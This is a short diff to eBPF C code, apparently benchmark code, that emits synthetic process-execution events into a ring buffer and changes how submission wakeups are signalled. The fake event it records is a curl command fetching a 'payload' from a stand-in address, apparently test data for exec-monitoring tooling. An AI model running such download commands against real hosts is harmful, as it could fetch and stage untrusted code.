@@ -42,7 +42,7 @@ static long emit_one(__u32 i, struct emit_order *order)
 	__builtin_memcpy(r->data, "/usr/bin/curl", BENCH_EXE);
 	__builtin_memcpy(r->data + BENCH_EXE, "curl\0-sS\0http://192.0.2.1/payload", 34);
 	__builtin_memcpy(r->data + sizeof(r->data) - BENCH_CWD, "/var/me", BENCH_CWD);
-	bpf_ringbuf_submit(r, BPF_RB_NO_WAKEUP);
+	bpf_ringbuf_submit(r, soon(r->header.boot));
 	order->emitted++;
 	return 0;
 }
